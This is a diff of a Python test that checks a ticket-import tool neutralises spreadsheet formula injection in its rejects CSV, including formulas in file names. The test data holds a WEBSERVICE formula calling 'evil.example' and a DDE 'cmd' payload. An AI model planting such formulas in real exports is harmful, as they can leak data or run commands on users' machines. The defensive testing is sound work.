@@ -61,8 +61,10 @@ def test_rejects_file_neutralises_formulas_in_every_column_and_the_gladly_csv_ke
                   "-minus title", FORMULA, "@web", ""),
     ]
     (tmp_path / "items.csv").write_text(HEADER + "".join(rows), encoding="utf-8", newline="")
-    (tmp_path / "zendesk.json").write_text('=WEBSERVICE("http://evil.example/")\n', encoding="utf-8")
-    config = write_config(tmp_path, {"csv": {"path": "items.csv"}, "zendesk": {"path": "zendesk.json"}})
+    # a file whose name is a formula (source_file), malformed lines starting with '=' and with a tab before '='
+    (tmp_path / "=zendesk.json").write_text('=WEBSERVICE("http://evil.example/")\n\t=1+2 after a tab\n',
+                                            encoding="utf-8")
+    config = write_config(tmp_path, {"csv": {"path": "items.csv"}, "zendesk": {"path": "=zendesk.json"}})
     result = run_import(config)
     assert result.returncode == 0, result.stderr
 
@@ -72,7 +74,11 @@ def test_rejects_file_neutralises_formulas_in_every_column_and_the_gladly_csv_ke
     assert rejects[("csv", "invalid_email")]["customer_email_raw"] == "'=cmd|' /C calc'!A0"
     assert rejects[("csv", "invalid_email")]["raw_excerpt"] == "'@SUM(1+1)"
     assert rejects[("csv", "empty_body")]["raw_excerpt"] == "'=1+1"  # the title, trimmed by the import
-    assert rejects[("zendesk", "malformed_json")]["raw_excerpt"].startswith("'=WEBSERVICE(")
+    zendesk = sorted((r["source_row"], r["source_file"], r["raw_excerpt"]) for r in result.rejects()
+                     if r["source_platform"] == "zendesk")
+    assert [(row, name) for row, name, _ in zendesk] == [("1", "'=zendesk.json"), ("2", "'=zendesk.json")]
+    assert zendesk[0][2].startswith("'=WEBSERVICE(")
+    assert zendesk[1][2].startswith("'") and zendesk[1][2].lstrip("'").lstrip(" \t").startswith("=1+2")
     with open(result.output_dir / "gladly_import_rejects.csv", encoding="utf-8", newline="") as handle:
         cells = [cell for row in csv.reader(handle) for cell in row]
     assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
